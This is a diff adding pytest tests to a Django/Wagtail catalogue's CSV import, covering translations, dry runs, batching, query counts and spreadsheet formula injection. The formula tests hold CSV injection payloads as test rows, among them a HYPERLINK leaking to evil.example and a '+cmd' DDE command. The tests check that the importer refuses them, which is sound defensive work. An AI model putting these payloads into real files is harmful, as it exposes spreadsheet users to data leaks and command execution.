@@ -5,6 +5,7 @@ from decimal import Decimal
 from io import StringIO
 
 import pytest
+import wagtail_factories
 
 from django.contrib import messages
 from django.contrib.auth.models import Group
@@ -17,10 +18,11 @@ from django.urls import reverse
 from django.utils import translation
 
 from wagtail.models import ModelLogEntry, Revision
+from wagtail.search.backends import get_search_backend
 
 from catalogue import csv_import
 from catalogue.csv_import import ImportRefused, example_csv, import_items
-from catalogue.models import Item
+from catalogue.models import Item, ItemImage
 from search.api import CatalogueQuery, search_catalogue
 from tests import factories
 
@@ -143,6 +145,20 @@ def test_a_changed_row_updates_the_item_and_its_translations_follow(lenders):
         Decimal("30"),
     )
     assert found("boorhamer") == []  # retired items leave the public catalogue
+
+
+def test_a_translation_added_to_an_item_with_a_photo_gets_the_photo_too(lenders):
+    item = factories.build_item(lenders["tools"], lenders["drills"], "Boor", "IN-0901")
+    photo = wagtail_factories.ImageFactory()
+    ItemImage.objects.create(item=item, image=photo)
+
+    report = run(lenders["tools"], "code;naam;categorie;naam_fr\nIN-0901;Boor;boren;Perceuse\n")
+
+    assert [(row.code, row.translations) for row in report.updated] == [("IN-0901", ["fr"])]
+    french = item.get_translation(factories.locales()["fr"])
+    assert french.live and french.name == "Perceuse"
+    assert [image.image_id for image in french.images.all()] == [photo.pk]
+    assert [image.image_id for image in item.images.all()] == [photo.pk]
 
 
 def test_semicolons_a_bom_and_decimal_commas_as_belgian_excel_saves_them(lenders):
@@ -282,6 +298,52 @@ def test_a_check_only_run_saves_nothing_but_reports_what_would_happen(lenders):
     assert found("boor") == []
 
 
+def test_a_check_only_run_reports_what_the_import_then_does(lenders):
+    run(lenders["tools"], ENGLISH_FILE)
+    data = ENGLISH_FILE.replace("Hammer drill,", "Rotary hammer,") + (
+        "IN-0103,Zaag,zagen,,,,,,,,,,,,,\n"
+        "IN-0104,Loopfiets,boren,,,,48,24,,,,,,,,\n"
+        "IN-0105,=1+1,boren,,,,,,,,,,,,,\n"
+        "IN-0106,Schuurmachine,boren,,,,,,,,twaalf,,Ponceuse,,,\n"
+        "IN-0107,Tegelsnijder,boren,,,,,,,,,,Coupe-carreaux,,,\n"
+        "IN-0101,Boor,boren,,,,,,,,,,,,,\n"
+    )
+
+    def outcome(report):
+        return {
+            key: [(row.row, row.code, row.reason, row.translations) for row in getattr(report, key)]
+            for key in ("created", "updated", "unchanged", "rejected")
+        }
+
+    checked = run(lenders["tools"], data, dry_run=True)
+    imported = run(lenders["tools"], data)
+
+    assert outcome(checked) == outcome(imported)
+    assert [(row.code, row.translations) for row in imported.updated] == [("IN-0101", ["en"])]
+    assert [row.code for row in imported.unchanged] == ["IN-0102"]
+    assert [(row.code, row.translations) for row in imported.created] == [("IN-0107", ["fr"])]
+    assert len(imported.rejected) == 5
+
+
+def test_with_productions_task_backend_wagtails_indexes_follow_in_one_task(lenders, settings):
+    from django_tasks_db.models import DBTaskResult
+
+    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
+    report = run(lenders["tools"], ENGLISH_FILE)
+
+    assert len(report.created) == 2
+    assert found("hammer", "en") == ["IN-0101"]  # the catalogue's own index: at once
+    queued = list(DBTaskResult.objects.values_list("task_path", flat=True))
+    assert queued == ["catalogue.bulk_publish.update_wagtail_indexes"]
+    assert not get_search_backend().search("klopboormachine", Item)
+
+    call_command("db_worker", "--batch", "--no-startup-delay", "--no-reload", verbosity=0)
+
+    assert [item.code for item in get_search_backend().search("klopboormachine", Item)] == [
+        "IN-0101"
+    ]
+
+
 def count_queries(action):
     # CaptureQueriesContext stops counting at 9,000 queries; a wrapper counts them all.
     count = 0
@@ -296,21 +358,153 @@ def count_queries(action):
     return count
 
 
-def test_the_number_of_queries_per_row_does_not_grow_with_the_file(lenders):
-    def queries(count, start=0):
+def test_the_queries_of_an_import_do_not_grow_with_its_rows(lenders):
+    # Rows are checked against what was read once, then written a batch at a time: a file of
+    # 1,000 rows must answer within a request (bench/csv_import.py measures it).
+    def data(count, start):
         rows = "".join(f"Q-{n};Boor {n};boren;Perceuse {n}\n" for n in range(start, start + count))
-        data = f"code;naam;categorie;naam_fr\n{rows}"
-        return count_queries(lambda: run(lenders["tools"], data))
+        return f"code;naam;categorie;naam_fr\n{rows}"
 
-    five, twenty_five, forty_five = queries(5), queries(25, 100), queries(45, 200)
-    per_row = (twenty_five - five) / 20
-    # The same cost for every new row (a first run fills a cache or two: less than a row's worth).
-    assert abs((forty_five - twenty_five) / 20 - per_row) < 0.5
-    assert per_row <= 200, per_row  # two published objects (Dutch and French) per row
-    # Categories, existing items, their translations and the locales are read once.
-    assert five - 5 * per_row < 20
-    # Unchanged rows are only validated.
-    assert queries(25, 100) <= 12 * 25
+    def queries(count, start, **kwargs):
+        return count_queries(lambda: run(lenders["tools"], data(count, start), **kwargs))
+
+    checked = queries(45, 300, dry_run=True) - queries(5, 400, dry_run=True)
+    five, forty_five = queries(5, 0), queries(45, 100)
+    # Per new row, only Wagtail's copying of the French translation (its own two savepoints).
+    assert checked / 40 <= 5, checked
+    assert (forty_five - five) / 40 <= 5, (five, forty_five)
+    assert five < 60  # the reads at the start, one batch of writes, the indexes
+    # Unchanged rows read and write nothing of their own.
+    assert queries(45, 100) == queries(5, 0) < 30
+    assert Item.objects.filter(locale__language_code="nl").count() == 50
+
+
+def test_rows_are_written_in_batches_and_a_row_the_database_refuses_is_rejected_alone(
+    lenders, monkeypatch
+):
+    # Another save of the same code after the file was checked (here a French item with the
+    # code of row 4, made meanwhile): the batch holding that row is written again row by row.
+    monkeypatch.setattr(csv_import, "BATCH_ROWS", 2)
+    load = csv_import.Importer._load
+
+    def load_then_someone_saves(importer):
+        load(importer)
+        Item.objects.create(
+            initiative=lenders["tools"],
+            category=lenders["drills"],
+            code="R-3",
+            name="Boor van iemand anders",
+            locale=factories.locales()["fr"],
+        )
+
+    monkeypatch.setattr(csv_import.Importer, "_load", load_then_someone_saves)
+    rows = "".join(f"R-{n};Boor {n};boren;Perceuse {n}\n" for n in range(1, 6))
+    progress = []
+
+    with translation.override("en"):
+        report = import_items(
+            lenders["tools"],
+            "code;naam;categorie;naam_fr\n" + rows,
+            progress=lambda done, total: progress.append((done, total)),
+        )
+
+    assert [(r.row, r.code) for r in report.rejected] == [(4, "R-3")]
+    assert "This row could not be saved" in report.rejected[0].reason
+    assert [r.code for r in report.created] == ["R-1", "R-2", "R-4", "R-5"]
+    assert progress == [(n, 5) for n in range(1, 6)]
+    assert not Item.objects.filter(code="R-3", locale__language_code="nl").exists()
+    assert Item.objects.get(code="R-4", locale__language_code="fr").name == "Perceuse 4"
+    assert found("boor") == ["R-1", "R-2", "R-4", "R-5"]
+
+
+def test_a_code_a_translation_holds_already_is_rejected_when_checking(lenders):
+    # A French item of the initiative with this code but no Dutch item (made in the admin):
+    # the French translation of the row would break the unique code.
+    Item.objects.create(
+        initiative=lenders["tools"],
+        category=lenders["drills"],
+        code="IN-0801",
+        name="Perceuse orpheline",
+        locale=factories.locales()["fr"],
+    )
+
+    report = run(
+        lenders["tools"], "code;naam;categorie;naam_fr\nIN-0801;Boor;boren;Perceuse\n", dry_run=True
+    )
+
+    assert report.rejected[0].reason == (
+        "(FR) Item with this Initiative, Inventory code and Locale already exists."
+    )
+
+
+# Spreadsheet formulas ------------------------------------------------------------------------
+
+FORMULA_ROWS = (
+    "code;naam;categorie;merk;waarborg;uitleendagen;inhoud;naam_fr\n"
+    'F-1;=HYPERLINK("https://evil.example/?leak";"Boor");boren;;;;;\n'  # row 2
+    "F-2;Boor;boren;+cmd|' /C calc'!A0;;;;\n"  # row 3
+    "F-3;Zaag;boren;;;;;@SUM(1+1)\n"  # row 4
+    "-2+3;Ladder;boren;;;;;\n"  # row 5
+    '"F-5";"\t=1+1";boren;;;;;\n'  # row 6: a tab before the formula
+    "F-6;Schuurmachine;boren;;-5;;;\n"  # row 7: a number, but no negative deposit
+    "F-7;Decoupeerzaag;boren;-;12,50;+14;- koffer | - 2 zaagbladen;- Scie sauteuse\n"  # row 8
+    "F-8;Boormachine;boren;Bosch;+12,50;14;koffer;Perceuse\n"  # row 9
+)
+
+
+@pytest.mark.parametrize(
+    ("row", "code", "reason"),
+    [
+        (2, "F-1", "naam: a cell may not start with =, +, - or @: spreadsheet programs run it"),
+        (3, "F-2", "merk: a cell may not start with =, +, - or @: spreadsheet programs run it"),
+        (4, "F-3", "naam_fr: a cell may not start with =, +, - or @: spreadsheet programs run"),
+        (5, "-2+3", "code: a cell may not start with =, +, - or @"),
+        (6, "F-5", "naam: a cell may not start with"),
+        (7, "F-6", "waarborg: Ensure this value is greater than or equal to 0."),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_rejected(lenders, row, code, reason):
+    report = run(lenders["tools"], FORMULA_ROWS)
+
+    rejected = {(result.row, result.code): result.reason for result in report.rejected}
+    assert reason in rejected[row, code]
+    assert len(rejected) == 7
+    assert "“=”" in rejected[2, "F-1"] and "“-”" in rejected[5, "-2+3"]
+
+
+def test_numbers_and_list_markers_are_not_formulas(lenders):
+    report = run(lenders["tools"], FORMULA_ROWS)
+
+    assert [result.code for result in report.created] == ["F-8"]
+    assert (8, "F-7") in {(result.row, result.code) for result in report.rejected}
+    reasons = next(result.reasons for result in report.rejected if result.code == "F-7")
+    # The brand "-" and the French name "- Scie sauteuse" are refused; the loan days +14 and
+    # the contents with list markers are not.
+    assert [reason.split(":")[0] for reason in reasons] == ["merk", "naam_fr"]
+    assert dutch("F-8").deposit == Decimal("12.50")
+
+    data = "code;naam;categorie;uitleendagen;inhoud\nF-9;Zaag;boren;+14;- koffer | • 2 bladen\n"
+    run(lenders["tools"], data)
+    assert dutch("F-9").loan_days == 14
+    assert dutch("F-9").contents == "koffer\n2 bladen"
+    stored = Item.objects.values_list("code", "name", "brand", "contents", "description")
+    assert not [value for row in stored for value in row if value.startswith(("=", "+", "-", "@"))]
+
+
+def test_the_formula_rule_is_explained_in_dutch_too(lenders):
+    with translation.override("nl"):
+        report = import_items(lenders["tools"], FORMULA_ROWS, dry_run=True)
+
+    reason = next(result.reason for result in report.rejected if result.code == "F-1")
+    assert reason.startswith("naam: een cel mag niet beginnen met =, +, - of @")
+
+
+def test_the_example_file_neutralises_what_a_spreadsheet_would_run(lenders):
+    # The category in the example comes from the database: a slug may start with "-".
+    example = example_csv("-boren")
+
+    row = example.splitlines()[1].split(";")
+    assert row[2] == "'-boren"
 
 
 # Whole-file refusals ---------------------------------------------------------------------
